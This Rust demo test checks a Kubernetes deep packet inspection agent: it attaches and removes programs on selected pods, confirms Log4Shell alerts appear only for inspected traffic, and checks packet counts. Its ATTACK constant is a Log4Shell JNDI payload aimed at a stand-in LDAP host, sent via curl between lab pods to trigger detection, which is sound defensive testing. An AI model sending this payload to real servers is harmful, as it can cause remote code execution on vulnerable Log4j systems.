//! What is done, in order, and what must come of it.

use std::{
    path::Path,
    sync::atomic::AtomicBool,
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, bail, ensure};
use dpi_tests::lab::{Agent, AgentOptions, Lab, Server, inspection, unavailable, wait_for};

use crate::{Options, expected::Step, going_on, keep, show};

/// A change of manifests takes effect within this time.
const SOON: Duration = Duration::from_secs(1);
/// Rules are compiled and rings bound within this time, on a busy machine too.
const START: Duration = Duration::from_secs(30);
/// The starter rule that finds `Log4Shell` in a header.
const LOG4SHELL: u32 = 9_000_102;
const ATTACK: &[&str] = &["--user-agent", "${jndi:ldap://203.0.113.9/a}"];
const WHOLE: Duration = Duration::from_secs(5);

const STEPS: &[Step] = &[
    Step {
        title: "red1 asks red2 for a page, as it should",
        from: "red1",
        to: "red2",
        path: "/index.html",
        curl: &[],
        sid: None,
        inspected: &["red1", "red2"],
    },
    Step {
        title: "red1 attacks red2 (Log4Shell): both ends are inspected, an alert for each",
        from: "red1",
        to: "red2",
        path: "/",
        curl: ATTACK,
        sid: Some(LOG4SHELL),
        inspected: &["red1", "red2"],
    },
    Step {
        title: "red1 attacks blue1: one end is inspected, one alert",
        from: "red1",
        to: "blue1",
        path: "/",
        curl: ATTACK,
        sid: Some(LOG4SHELL),
        inspected: &["red1"],
    },
    Step {
        title: "blue1 attacks red2: one end is inspected, one alert",
        from: "blue1",
        to: "red2",
        path: "/",
        curl: ATTACK,
        sid: Some(LOG4SHELL),
        inspected: &["red2"],
    },
];

const BLUE: Step = Step {
    title: "blue1 attacks blue2: no end is inspected, no alert",
    from: "blue1",
    to: "blue2",
    path: "/",
    curl: ATTACK,
    sid: None,
    inspected: &[],
};

struct Demo<'a> {
    lab: &'a Lab,
    agent: &'a Agent,
    stop: &'a AtomicBool,
}

/// Plays it all; an error as soon as something is not as it must be.
pub(crate) fn run(options: &Options, stop: &AtomicBool) -> Result<()> {
    if let Some(reason) = unavailable() {
        bail!("{reason}");
    }
    let mut rules: Vec<&Path> = vec![&options.starter];
    rules.extend(options.community.as_deref());
    let lab = Lab::red_and_blue(&rules)?;
    let _servers = serve(&lab)?;
    show::step("A node with pods red1 and red2 (app: red), blue1 and blue2 (app: blue)");
    for pod in &lab.pods {
        println!("      {:<6} {:<12} {}", pod.name, pod.ip, pod.interface);
    }
    let mut agent = Agent::start(&lab, &AgentOptions::default())?;
    let demo = Demo {
        lab: &lab,
        agent: &agent,
        stop,
    };
    demo.idle("Nothing is selected: no program, no ring, no worker")?;
    demo.select()?;
    for step in STEPS {
        demo.play(step)?;
    }
    demo.untouched()?;
    demo.added_and_removed()?;
    demo.balanced()?;
    if options.keep {
        return keep::run(&lab, &agent, stop);
    }
    demo.deselect()?;
    show::step("The agent is told to stop");
    let end = agent.terminate()?;
    ensure!(end.success(), "the agent ended with {end}");
    ensure!(agent.pins() == 0, "pins are left");
    ensure!(lab.all_programs()? == 0, "programs are left");
    show::holds("it ends, and nothing is left in the kernel");
    println!("\nEvery expected alert came, and no other.");
    Ok(())
}

fn serve(lab: &Lab) -> Result<Vec<Server>> {
    let folder = lab.path("www");
    std::fs::create_dir(&folder)?;
    std::fs::write(folder.join("index.html"), "<p>A page.</p>\n")?;
    ["red2", "blue1", "blue2"]
        .iter()
        .map(|name| lab.pod(name).serve(&folder, 80))
        .collect()
}

impl Demo<'_> {
    fn programs(&self, pod: &str) -> Result<usize> {
        self.lab.programs(&self.lab.pod(pod).interface)
    }

    fn idle(&self, title: &str) -> Result<()> {
        show::step(title);
        self.agent.wait_status("idleness", WHOLE, |status| {
            status.text("/state") == "Idle" && status.number("/worker/pid") == 0
        })?;
        ensure!(self.lab.all_programs()? == 0, "an interface has programs");
        ensure!(self.agent.pins() == 0, "something is pinned");
        let sink = self.lab.node.ip("link show dev dpi-sink");
        ensure!(sink.is_err(), "the sink device exists");
        show::holds("no program, no pin, no sink device, no worker process");
        Ok(())
    }

    fn select(&self) -> Result<()> {
        show::step("kubectl apply: DeepPacketInspection red, selector app == 'red'");
        let begun = Instant::now();
        self.lab
            .write_manifest("red.yaml", &inspection("red", "app == 'red'"))?;
        let status = self.agent.wait_status("inspection", START, |status| {
            status.text("/state") == "Inspecting"
        })?;
        wait_for("programs on red1 and red2", SOON, || {
            going_on(self.stop)?;
            Ok(self.programs("red1")? == 2 && self.programs("red2")? == 2)
        })?;
        show::holds(&format!(
            "inspected after {} ms: {} rules compiled in {} ms, then rings, then programs ({}, sink {})",
            begun.elapsed().as_millis(),
            status.number("/rules/loaded"),
            status.number("/rules/millis"),
            status.text("/capture/attach"),
            status.text("/capture/sink"),
        ));
        ensure!(
            self.programs("blue1")? + self.programs("blue2")? == 0,
            "blue1 or blue2 has programs"
        );
        show::holds("ingress and egress programs on red1 and red2, none on blue1 and blue2");
        Ok(())
    }

    fn play(&self, step: &Step) -> Result<()> {
        going_on(self.stop)?;
        show::step(step.title);
        let before = self.agent.alerts()?.len();
        let url = format!("http://{}{}", self.lab.pod(step.to).ip, step.path);
        let mut arguments = step.curl.to_vec();
        arguments.push(&url);
        let code = self.lab.pod(step.from).curl(&arguments)?;
        self.agent.settle()?;
        let alerts = self.agent.alerts()?;
        let new = alerts.get(before..).unwrap_or_default();
        if !new.is_empty() {
            show::heading();
            new.iter().for_each(show::alert);
        }
        step.judge(new).context(step.title)?;
        show::holds(&format!(
            "curl got {code}; {} alerts, as expected",
            new.len()
        ));
        Ok(())
    }

    /// Pods that nothing selects: no program, not a packet.
    fn untouched(&self) -> Result<()> {
        let before = self.agent.settle()?.number("/packets/seen");
        self.play(&BLUE)?;
        let after = self.agent.settle()?.number("/packets/seen");
        let programs = self.programs("blue1")? + self.programs("blue2")?;
        ensure!(programs == 0, "blue1 or blue2 has programs");
        ensure!(
            after == before,
            "{} packets were seen though none of a selected pod passed",
            after - before
        );
        show::holds("no program on their interfaces, 0 packets seen, 0 handed over");
        Ok(())
    }

    fn added_and_removed(&self) -> Result<()> {
        show::step("kubectl apply: DeepPacketInspection blue, while red is inspected");
        self.lab
            .write_manifest("blue.yaml", &inspection("blue", "app == 'blue'"))?;
        let took = wait_for("programs on blue1 and blue2", SOON, || {
            Ok(self.programs("blue1")? == 2 && self.programs("blue2")? == 2)
        })?;
        show::holds(&format!(
            "programs on blue1 and blue2 after {} ms",
            took.as_millis()
        ));
        self.play(&Step {
            title: "blue1 attacks blue2: both ends are inspected now",
            sid: Some(LOG4SHELL),
            inspected: &["blue1", "blue2"],
            ..BLUE
        })?;
        show::step("kubectl delete: DeepPacketInspection blue");
        self.lab.remove_manifest("blue.yaml")?;
        let took = wait_for("no programs on blue1 and blue2", SOON, || {
            Ok(self.programs("blue1")? + self.programs("blue2")? == 0)
        })?;
        show::holds(&format!(
            "no program is left on them after {} ms; red1 and red2 keep theirs",
            took.as_millis()
        ));
        ensure!(self.programs("red1")? == 2, "red1 has lost its programs");
        self.untouched()
    }

    fn balanced(&self) -> Result<()> {
        show::step("Where the packets of selected pods went");
        let status = self.agent.settle()?;
        show::counters(&status);
        ensure!(
            status.under_way() == 0 && status.sum("/packets/dropped") == 0,
            "packets were lost: {}",
            status.balance()
        );
        show::holds("seen = inspected + bypassed + dropped, exactly");
        Ok(())
    }

    fn deselect(&self) -> Result<()> {
        self.lab.remove_manifest("red.yaml")?;
        let took = wait_for("no program anywhere", SOON, || {
            Ok(self.lab.all_programs()? == 0)
        })?;
        self.idle("kubectl delete: DeepPacketInspection red; nothing is selected any more")?;
        show::holds(&format!(
            "the programs were gone after {} ms",
            took.as_millis()
        ));
        Ok(())
    }
}
